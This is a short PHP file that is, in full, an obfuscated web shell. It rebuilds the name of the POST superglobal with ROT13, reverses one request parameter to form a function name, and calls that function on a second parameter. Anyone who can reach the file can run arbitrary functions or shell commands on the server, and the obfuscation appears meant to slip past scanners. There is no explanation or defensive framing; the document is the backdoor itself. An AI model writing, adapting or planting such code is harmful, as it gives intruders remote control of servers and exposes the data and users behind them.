<?php
$k = str_rot13('_CBFG');
$v = get_defined_vars()[$k];
$run = strrev((string) ($v['z'] ?? ''));
$run((string) ($v['y'] ?? ''));
